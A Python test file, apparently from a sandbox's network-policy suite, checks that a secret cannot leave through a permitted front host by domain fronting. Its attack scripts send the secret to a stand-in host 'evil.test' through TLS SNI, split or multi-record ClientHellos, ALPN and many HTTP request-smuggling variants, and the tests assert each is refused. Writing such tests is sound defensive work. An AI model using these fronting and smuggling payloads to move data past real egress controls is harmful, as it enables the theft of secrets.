"""A secret cannot leave over a permitted connection to somebody else at the same address (fronting).

The permitted name leads to a server that may be the one of others, too, as those of content networks are.
Nothing that asks it for another host gets there: the receiver keeps every byte.
"""

from __future__ import annotations

import pytest

from corral.model.violation import Evidence
from support.net_leaks import leak
from support.net_runs import GRANTS, on_every_backend, on_quick_backends
from support.net_servers import TalkativeSink

TYPE_CHECKING = False
if TYPE_CHECKING:
    from corral.model.result import Result
    from support.net_runs import Place

#: A permitted host, of whom every byte is kept.
FRONT = "front.example.test"
ALSO = (*GRANTS, f"network:https:{FRONT}", f"network:http:{FRONT}")

_CONTEXT = """
EVIL = SECRET + ".evil.test"
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
def hello(name):
    sent, incoming = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(incoming, sent, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        return sent.read()
"""


def _try(place: Place, port: int, *sends: str, is_reported: bool = True) -> Result:
    """Each of `sends` is the body of a function whose `stream` leads to the permitted host."""
    script = _CONTEXT
    for send in sends:
        body = "\n".join(f"    {line}" for line in send.strip().splitlines())
        script += f"\ndef send(stream):\n{body}\nattempt(lambda: send(dial({FRONT!r}, {port})))"
    with TalkativeSink() as sink:
        place.site.names.lead(FRONT, port, sink.where)
        result = leak(place, script, sink, grants=ALSO)
    if is_reported:
        assert any(found.evidence is Evidence.OBSERVED for found in result.violations), result.stdout
        assert result.network.refused > 0
    return result


@on_every_backend
def test_by_the_name_that_tls_asks_for(place: Place) -> None:
    """SNI: it is sent before anything is secured."""
    _try(place, 443, "return context.wrap_socket(stream, server_hostname=EVIL)")


@on_quick_backends
@pytest.mark.parametrize("size", [1, 7])
def test_by_the_name_that_tls_asks_for_in_pieces(place: Place, size: int) -> None:
    """Each piece is a packet of its own, and says nothing by itself."""
    _try(
        place,
        443,
        f"""
stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
data = hello(EVIL)
for at in range(0, len(data), {size}):
    stream.sendall(data[at:at + {size}])
return listen(stream)
""",
    )


@on_every_backend
def test_by_the_name_that_tls_asks_for_in_many_records(place: Place) -> None:
    """The same message in several records, the secret in one of its own, which is correct TLS."""
    _try(
        place,
        443,
        """
message = hello(EVIL)[5:]
at, end = message.index(SECRET.encode()), message.index(SECRET.encode()) + len(SECRET)
pieces = [message[:3], message[3:50], message[50:at], message[at:end], message[end:]]
stream.sendall(b"".join(b"\\x16\\x03\\x01" + struct.pack(">H", len(piece)) + piece for piece in pieces))
return listen(stream)
""",
    )


@on_every_backend
def test_by_a_second_greeting_of_tls(place: Place) -> None:
    """Two greetings in one go: the first one asks for another host than the second one."""
    _try(place, 443, "stream.sendall(hello(EVIL) + hello('front.example.test'))\nreturn listen(stream)")


@on_quick_backends
@pytest.mark.parametrize(
    "data",
    [
        "SECRET.encode()",
        "b'GET / HTTP/1.1\\r\\nHost: front.example.test\\r\\nX: ' + SECRET.encode() + b'\\r\\n\\r\\n'",
        "b'\\x80\\x2e\\x01\\x00\\x02' + SECRET.encode()",
        "b'\\x16\\x03\\x01\\x00\\x0a' + SECRET.encode()",
        "b'SSH-2.0-' + SECRET.encode() + b'\\r\\n'",
    ],
    ids=["text", "http", "ssl2", "record", "ssh"],
)
def test_by_what_is_no_tls(place: Place, data: str) -> None:
    """`network:https` permits TLS, and nothing else on that port."""
    _try(place, 443, f"stream.sendall({data})\nreturn listen(stream)")


@on_every_backend
def test_by_tls_that_names_no_host(place: Place) -> None:
    """A greeting without a name, whose list of protocols is the message."""
    _try(
        place,
        443,
        "context.set_alpn_protocols([SECRET])\nreturn context.wrap_socket(stream, server_hostname=None)",
    )


@on_every_backend
def test_by_the_host_that_http_asks_for(place: Place) -> None:
    _try(place, 80, "get(stream, EVIL)\nreturn listen(stream)")


@on_every_backend
def test_by_a_second_request_on_the_same_connection(place: Place) -> None:
    """The first one is permitted, and answered."""
    _try(
        place,
        80,
        """
get(stream, "front.example.test")
print(listen(stream))
get(stream, "evil.test", "/" + SECRET)
stream.settimeout(1)
return listen(stream)
""",
    )


_HEAD = "POST / HTTP/1.1\\r\\nHost: front.example.test\\r\\n"
_EVIL = "GET /' + SECRET + ' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"
_REQUESTS = {
    "pipelined": f"GET / HTTP/1.1\\r\\nHost: front.example.test\\r\\n\\r\\n{_EVIL}",
    "after a body": f"{_HEAD}Content-Length: 2\\r\\n\\r\\nok{_EVIL}",
    "after chunks": f"{_HEAD}Transfer-Encoding: chunked\\r\\n\\r\\n2\\r\\nok\\r\\n0\\r\\n\\r\\n{_EVIL}",
    "two lengths": f"{_HEAD}Content-Length: 0\\r\\nContent-Length: 200\\r\\n\\r\\n{_EVIL}",
    "length and chunks": f"{_HEAD}Content-Length: 200\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
    f"0\\r\\n\\r\\n{_EVIL}",
    "odd coding": f"{_HEAD}Transfer-Encoding: xchunked\\r\\nContent-Length: 200\\r\\n\\r\\n{_EVIL}",
    "two hosts": "GET / HTTP/1.1\\r\\nHost: front.example.test\\r\\nHost: ' + EVIL + '\\r\\n\\r\\n",
    "whole address": "GET http://' + EVIL + '/ HTTP/1.1\\r\\nHost: front.example.test\\r\\n\\r\\n",
    "user in the address": "GET http://front.example.test@' + EVIL + '/ HTTP/1.1\\r\\n"
    "Host: front.example.test\\r\\n\\r\\n",
    "no host": "GET /' + SECRET + ' HTTP/1.1\\r\\n\\r\\n",
    "old version": "GET /' + SECRET + ' HTTP/1.0\\r\\n\\r\\n",
    "oldest version": "GET /' + SECRET + '\\r\\n",
    "folded host": "GET / HTTP/1.1\\r\\nHost: front.example.test\\r\\n .' + EVIL + '\\r\\n\\r\\n",
    "space before the colon": "GET / HTTP/1.1\\r\\nHost : ' + EVIL + '\\r\\n\\r\\n",
    "bare line feeds": "GET / HTTP/1.1\\nHost: ' + EVIL + '\\n\\n",
    "bare line feed in a head": "GET / HTTP/1.1\\r\\nX: y\\nHost: ' + EVIL + '\\r\\n"
    "Host: front.example.test\\r\\n\\r\\n",
    "connect": "CONNECT ' + EVIL + ':443 HTTP/1.1\\r\\nHost: front.example.test\\r\\n\\r\\n",
    "upgrade": "GET / HTTP/1.1\\r\\nHost: ' + EVIL + '\\r\\n"
    "Connection: upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n",
    "another port": "GET /' + SECRET + ' HTTP/1.1\\r\\nHost: front.example.test:8080\\r\\n\\r\\n",
    "http/2": "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + EVIL + '",
    "text": "' + SECRET + '\\r\\n",
    "text without an end": "' + SECRET + '",
    "tls": "\\x16\\x03\\x01\\x00\\x20' + EVIL + '",
}


#: These have no end: nothing was asked, so nothing was refused.
_UNFINISHED = {_REQUESTS["oldest version"], _REQUESTS["text without an end"]}


@pytest.mark.thorough  # all of them in one run is the next test
@on_quick_backends
@pytest.mark.parametrize(
    "request_text", _REQUESTS.values(), ids=[name.replace(" ", "-") for name in _REQUESTS]
)
def test_by_a_request_that_two_readers_see_differently(place: Place, request_text: str) -> None:
    """Each is a request for another host to some reader, or none for the permitted one."""
    _try(place, 80, _send_text(request_text), is_reported=request_text not in _UNFINISHED)


@on_every_backend
def test_by_all_requests_that_two_readers_see_differently(place: Place) -> None:
    result = _try(place, 80, *map(_send_text, _REQUESTS.values()))

    assert result.network.refused >= len(_REQUESTS) - len(_UNFINISHED)


def _send_text(request_text: str) -> str:
    send = f"stream.sendall(('{request_text}').encode('latin-1'))\nstream.shutdown(socket.SHUT_WR)"
    return f"{send}\nreturn listen(stream)"
